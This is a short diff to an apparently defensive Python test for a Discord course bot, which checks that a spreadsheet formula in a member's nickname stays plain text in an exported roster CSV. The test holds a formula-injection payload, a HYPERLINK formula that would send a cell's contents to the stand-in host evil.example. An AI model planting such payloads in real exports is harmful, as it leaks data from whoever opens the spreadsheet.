@@ -11,13 +11,13 @@ from sqlalchemy import select
 from db.models import AuditLog
 from db.session import Database
 from sandbox import DiscordSandbox
+from tests.cogs.course_fixtures import enrolled_member
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
 
 
 async def test_a_formula_in_a_display_name_stays_text_in_the_roster_csv(classroom: DiscordSandbox) -> None:
-    attacker = await classroom.add_member("mallory", nick=PAYLOAD)
-    await classroom.slash("course enroll", user=attacker, course="PY101")
+    attacker = await enrolled_member(classroom, "mallory", nick=PAYLOAD)
     await classroom.slash("course enroll", user=classroom.student, course="PY101")
 
     roster = await classroom.slash("teach roster", user=classroom.instructor, course="PY101")
